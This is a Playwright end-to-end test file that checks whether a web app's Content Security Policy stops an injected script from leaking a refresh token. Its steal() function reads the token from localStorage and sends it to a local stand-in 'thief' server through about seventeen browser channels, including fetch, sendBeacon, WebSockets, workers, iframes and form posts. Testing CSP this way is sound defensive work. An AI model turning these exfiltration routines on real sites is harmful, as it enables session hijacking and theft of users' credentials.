import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, test as plain } from '@playwright/test'
import { restoreSession, signIn } from '../testing/signed-in.ts'

interface Thief {
  origin: string
  /** The paths that were requested from the thief's server. */
  heard: string[]
}

const test = plain.extend<{ thief: Thief; ours: string }>({
  // biome-ignore lint/correctness/noEmptyPattern: Playwright wants a pattern here
  ours: async ({}, use) => use(process.env.PLAINWIRE_E2E_ORIGIN ?? ''),
  baseURL: async ({ ours }, use) => use(ours),
  // biome-ignore lint/correctness/noEmptyPattern: Playwright wants a pattern here
  thief: async ({}, use) => {
    const heard: string[] = []
    const server = createServer((request, answer) => {
      heard.push(request.url ?? '')
      answer.writeHead(200, { 'access-control-allow-origin': '*' }).end()
    })
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    const { port } = server.address() as AddressInfo
    await use({ origin: `http://127.0.0.1:${port}`, heard })
    server.closeAllConnections()
    await new Promise((resolve) => server.close(resolve))
  },
})

/**
 * Tries to send everything that the browser stores to another host, as an injected script would. Runs in the
 * page.
 */
async function steal(thief: string): Promise<void> {
  const loot = encodeURIComponent(localStorage.getItem('refresh_token') ?? 'none')
  const to = (way: string) => `${thief}/${way}?${loot}`
  const add = (name: string, attributes: Record<string, string>) => {
    const element = document.createElement(name)
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
    document.body.append(element)
    return element
  }
  const ways: (() => unknown)[] = [
    () => fetch(to('fetch'), { mode: 'no-cors' }),
    () => navigator.sendBeacon(to('beacon'), loot),
    () => {
      const request = new XMLHttpRequest()
      request.open('POST', to('xhr'))
      request.send(loot)
    },
    () => {
      new Image().src = to('image')
    },
    () => new WebSocket(to('socket').replace('http', 'ws')),
    () => new EventSource(to('events')),
    () => new Worker(to('worker')),
    () => new Worker(URL.createObjectURL(new Blob([`fetch('${to('blob-worker')}')`]))),
    () => import(to('module')),
    () => add('script', { src: to('script') }),
    () => add('iframe', { src: to('frame') }),
    () => add('object', { data: to('object') }),
    () => add('video', { src: to('video'), preload: 'auto' }),
    () => add('link', { rel: 'stylesheet', href: to('style') }),
    () => add('link', { rel: 'prefetch', href: to('prefetch') }),
    () => add('div', { style: `background: url(${to('background')})` }),
    () => {
      add('iframe', { name: 'sink' })
      const form = add('form', { action: to('form'), method: 'post', target: 'sink' }) as HTMLFormElement
      form.submit()
    },
  ]
  for (const way of ways) {
    try {
      const tried = way()
      if (tried instanceof Promise) await tried.catch(() => undefined)
    } catch {
      // An attempt that throws sends nothing.
    }
  }
}

for (const hasPolicy of [true, false]) {
  test(`row 24: a script in the page ${hasPolicy ? 'sends a stolen token nowhere' : 'sends it out if no policy prevents that'}`, async ({
    browser,
    ours,
    thief,
  }) => {
    const context = await browser.newContext({
      baseURL: ours,
      bypassCSP: !hasPolicy,
      serviceWorkers: 'block',
    })
    const page = await context.newPage()
    const { session } = await signIn(page)
    await restoreSession(page, session)
    await page.goto('/')
    await page.evaluate(steal, thief.origin)
    // When this request is received, earlier attempts have been sent or refused. Only navigation isn't
    // prevented.
    await page.goto(`${thief.origin}/navigation`)
    expect(thief.heard).toContain('/navigation')
    const stolen = thief.heard.filter((path) => path.includes(encodeURIComponent(session.refresh_token)))
    if (hasPolicy)
      expect(thief.heard.filter((path) => !/^\/(?:navigation|favicon\.ico)/.test(path))).toEqual([])
    else expect(stolen.length).toBeGreaterThanOrEqual(5)
    await context.close()
  })
}
